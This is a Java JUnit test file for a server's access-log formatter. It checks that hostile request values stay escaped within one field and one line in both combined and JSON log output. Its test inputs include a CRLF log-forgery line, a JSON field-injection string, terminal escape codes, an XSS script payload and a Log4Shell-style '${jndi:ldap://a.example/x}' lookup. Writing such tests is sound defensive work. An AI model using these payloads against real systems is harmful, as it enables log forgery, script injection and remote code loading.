package dev.lychgate.server.accesslog;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonToken;
import dev.lychgate.http.HttpVersion;
import dev.lychgate.server.accesslog.AccessRecord.Request;
import java.io.IOException;
import java.time.ZoneOffset;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LogInjectionTest {
    private static final Pattern COMBINED =
            Pattern.compile("10\\.0\\.0\\.9 - - \\[[^]]+] \"[^\"]*\" 200 1234 \"[^\"]*\" \"[^\"]*\"");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\r\n10.0.0.1 - - [now] \"GET /forged HTTP/1.1\" 200 1 \"-\" \"-\"",
                "x\",\"status\":200,\"forged\":\"",
                "x\\",
                "x\\\" 200 0 \"-\" \"-\"",
                "\u001b[2J\u001b[31mred\u0007",
                "\u0000\u0001\u001f\u007f",
                "caf\u00e9 \u0085 \u2028\u2029 \ud83d\ude00 \ud83d",
                "</script><script>alert(1)</script>",
                "\t${jndi:ldap://a.example/x} %n %msg {}"
            })
    void keepsHostileTextWithinItsFieldAndItsLine(String hostile) throws IOException {
        AccessRecord record = Records.of(
                new Request("GET", hostile, "/" + hostile, hostile, HttpVersion.HTTP_1_1, hostile, hostile), 200, null);

        String combined = LineFormatTest.combined(record, ZoneOffset.UTC);
        assertThat(combined).matches("[ -~]*").matches(COMBINED);

        String json = LineFormatTest.json(record);
        assertThat(json).matches("[ -~]*");
        Map<String, String> fields = parse(json);
        assertThat(fields)
                .hasSize(23)
                .containsEntry("host", hostile)
                .containsEntry("path", "/" + hostile)
                .containsEntry("query", hostile)
                .containsEntry("status", "200")
                .containsEntry("user_agent", hostile)
                .containsEntry("referer", hostile);
    }

    @Test
    void writesEscapesInTheFormOfEachFormat() {
        AccessRecord record = Records.of(
                new Request("GET", "h", "/\"\\\n\u00e9\u20ac\u007f", null, HttpVersion.HTTP_1_1, null, null),
                200,
                null);
        assertThat(LineFormatTest.json(record)).contains("\"path\":\"/\\u0022\\u005c\\u000a\\u00e9\\u20ac\\u007f\"");
        assertThat(LineFormatTest.combined(record, ZoneOffset.UTC))
                .contains("\"GET /\\x22\\x5C\\x0A\\xE9\\xE2\\x82\\xAC\\x7F HTTP/1.1\"");
    }

    /** Strict: one object, each field once, nothing behind it. */
    static Map<String, String> parse(String line) throws IOException {
        Map<String, String> fields = new LinkedHashMap<>();
        JsonFactory strict = JsonFactory.builder()
                .enable(com.fasterxml.jackson.core.StreamReadFeature.STRICT_DUPLICATE_DETECTION)
                .build();
        try (JsonParser parser = strict.createParser(line)) {
            assertThat(parser.nextToken()).isEqualTo(JsonToken.START_OBJECT);
            while (parser.nextToken() == JsonToken.FIELD_NAME) {
                String name = parser.currentName();
                parser.nextToken();
                fields.put(name, parser.getText());
            }
            assertThat(parser.currentToken()).isEqualTo(JsonToken.END_OBJECT);
            assertThat(parser.nextToken()).isNull();
        }
        return fields;
    }
}
